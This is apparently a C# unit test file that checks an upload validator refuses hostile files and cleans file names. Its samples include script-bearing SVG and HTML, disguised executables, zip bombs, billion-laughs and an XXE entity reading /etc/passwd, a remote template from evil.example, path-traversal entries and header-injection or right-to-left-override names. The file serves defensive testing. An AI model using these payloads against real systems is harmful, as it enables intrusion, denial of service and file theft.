using System.Text;
using Trellis.Platform.Documents;

namespace Trellis.Tests.Documents;

/// <summary>A file is what is in it, and what means harm is not kept.</summary>
public sealed class What_is_in_a_file
{
    private static readonly Dictionary<string, (string Name, Func<byte[]> Content, string Says)> Attacks = new(StringComparer.Ordinal)
    {
        ["empty"] = ("a.pdf", () => [], "empty"),
        ["svg with script"] = ("a.svg", () => "<svg onload=\"alert(1)\"/>"u8.ToArray(), "must be PDF"),
        ["svg as png"] = ("a.png", () => "<svg onload=\"alert(1)\"/>"u8.ToArray(), "not one"),
        ["svg as text"] = ("a.txt", () => "\n <svg onload=\"alert(1)\"/>"u8.ToArray(), "not plain text"),
        ["html as text"] = ("a.txt", () => "<!DOCTYPE html><script>alert(1)</script>"u8.ToArray(), "not plain text"),
        ["program as pdf"] = ("report.pdf", () => [.. "MZ"u8, .. new byte[500]], "not one"),
        ["program"] = ("report.pdf.exe", () => [.. "MZ"u8, .. new byte[500]], "must be PDF"),
        ["no ending"] = ("report", () => Papers.Pdf(), "must be PDF"),
        ["pdf as docx"] = ("a.docx", () => Papers.Pdf(), "not an Office file"),
        ["docx as pdf"] = ("a.pdf", () => Papers.Docx(), "not one"),
        ["docx as xlsx"] = ("a.xlsx", () => Papers.Docx(), "not an Office file"),
        ["pdf and page at once"] = ("a.pdf", () => [.. "%PDF-1.7\n<html><script>alert(1)</script></html>"u8, .. Papers.Pdf()], "at once"),
        ["page before pdf"] = ("a.pdf", () => [.. "<html>"u8, .. Papers.Pdf()], "not one"),
        ["pdf cut off"] = ("a.pdf", () => Papers.Pdf()[..40], "not one"),
        ["png with something after"] = ("a.png", () => [.. Papers.Png(), .. Papers.Docx()], "after the end"),
        ["png cut off"] = ("a.png", () => Papers.Png()[..40], "not one"),
        ["nulls in text"] = ("a.csv", () => "a,b\0c"u8.ToArray(), "not one"),
        ["text in latin 1"] = ("a.txt", () => Encoding.Latin1.GetBytes("Zoë"), "UTF-8"),
        ["zip bomb"] = ("a.docx", () => Papers.Docx(more: [("word/media/a.bin", new byte[60_000_000])]), "far more"),
        ["many small parts"] = ("a.docx", () => Papers.Docx(more: [.. Enumerable.Range(0, 5_001).Select(n => ($"word/{n}", Array.Empty<byte>()))]), "far more"),
        ["zip bomb of many parts"] = ("a.docx", () => Papers.Docx(more: [.. Enumerable.Range(0, 230).Select(n => ($"word/{n}", new byte[990_000]))]), "far more"),
        ["zip in zip"] = ("a.docx", () => Papers.Docx(more: [("word/embeddings/inner.docx", Papers.Docx())]), "another file"),
        ["old office object inside"] = ("a.docx", () => Papers.Docx(more: [("word/embeddings/oleObject1.bin", [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])]), "another file"),
        ["program inside"] = ("a.docx", () => Papers.Docx(more: [("word/media/image1.png", [.. "MZ"u8, .. new byte[100]])]), "another file"),
        ["macros"] = ("a.docx", () => Papers.Docx(more: [("word/vbaProject.bin", [1])]), "macros"),
        ["macro type"] = ("a.docx", () => Papers.Office("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "<a/>"), "not an Office file"),
        ["plain zip"] = ("a.docx", () => Papers.Office("readme.txt", "text/plain", "hello"), "not an Office file"),
        ["billion laughs"] = ("a.docx", () => Papers.Docx("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>"), "not an Office file"),
        ["external entity"] = ("a.docx", () => Papers.Docx("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), "not an Office file"),
        ["declaration in another part"] = ("a.docx", () => Papers.Docx(more: [("customXml/item1.xml", "<!DOCTYPE a><a/>"u8.ToArray())]), "not an Office file"),
        ["template from elsewhere"] = ("a.docx", () => Papers.Docx(more: [("word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>"u8.ToArray())]), "from elsewhere"),
        ["climbing part"] = ("a.docx", () => Papers.Docx(more: [("../../etc/cron.d/a", [1])]), "not an Office file"),
        ["part with backslash"] = ("a.docx", () => Papers.Docx(more: [("word\\..\\a", [1])]), "not an Office file"),
        ["same part twice"] = ("a.docx", () => Papers.Docx(more: [("word/document.xml", "<a/>"u8.ToArray())]), "not an Office file"),
    };

    public static TheoryData<string> Bad => [.. Attacks.Keys];

    [Theory]
    [MemberData(nameof(Bad))]
    public void What_is_not_what_it_says_or_means_harm_is_refused(string attack)
    {
        var (name, content, says) = Attacks[attack];

        DocumentCheck.TypeOf(name, content()).Refused(out var why).ShouldBeTrue();

        why!.Words.ShouldContain(says);
    }

    [Fact]
    public void A_length_in_the_head_of_a_zip_is_not_believed()
    {
        var bomb = Papers.Docx(more: [("word/media/a.bin", new byte[60_000_000])]);
        for (var at = 0; at < bomb.Length - 4; at++)
        {
            if (BitConverter.ToInt32(bomb, at) == 60_000_000) { BitConverter.GetBytes(10).CopyTo(bomb, at); }
        }

        DocumentCheck.TypeOf("a.docx", bomb).Refused(out _).ShouldBeTrue();
    }

    public static TheoryData<string, byte[], string> Good => new()
    {
        { "Report.PDF", Papers.Pdf(), "pdf" },
        { "letter.docx", Papers.Docx(), "docx" },
        { "letter with a link.docx", Papers.Docx(more: [("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.gov.uk\" TargetMode=\"External\"/></Relationships>"u8.ToArray())]), "docx" },
        { "sheet.xlsx", Papers.Xlsx(), "xlsx" },
        { "a.png", Papers.Png(), "png" },
        { "a.csv", "name,day\r\nZoë,1\r\n"u8.ToArray(), "csv" },
        { "a.txt", "\ufeffWords"u8.ToArray(), "txt" },
    };

    [Theory]
    [MemberData(nameof(Good))]
    public void What_people_send_is_taken(string name, byte[] content, string type)
    {
        DocumentCheck.TypeOf(name, content).Refused(out _, out var found).ShouldBeFalse();
        found.ShouldBe(type);
    }

    [Theory]
    [InlineData("../../etc/passwd.txt", "txt", "passwd.txt")]
    [InlineData("C:\\Users\\me\\Report.docx", "docx", "Report.docx")]
    [InlineData("..\\..\\a.pdf", "pdf", "a.pdf")]
    [InlineData("a\0b\r\nSet-Cookie: x=1.pdf", "pdf", "abSet-Cookie- x=1.pdf")]
    [InlineData("invoice\u202efdp.exe.pdf", "pdf", "invoicefdp.exe.pdf")]
    [InlineData("...pdf", "pdf", "document.pdf")]
    [InlineData("", "pdf", "document.pdf")]
    [InlineData("CON.txt", "txt", "_CON.txt")]
    [InlineData("a\"; filename=\"b.pdf", "pdf", "a-- filename=-b.pdf")]
    [InlineData("Zoë’s report.pdf", "pdf", "Zoë’s report.pdf")]
    public void A_name_is_one_file_in_one_folder(string given, string ending, string expected) => DocumentName.Clean(given, ending).ShouldBe(expected);

    [Fact]
    public void A_name_is_not_longer_than_a_system_takes() => DocumentName.Clean(new string('x', 5_000) + ".pdf", "pdf").Length.ShouldBeLessThan(120);
}
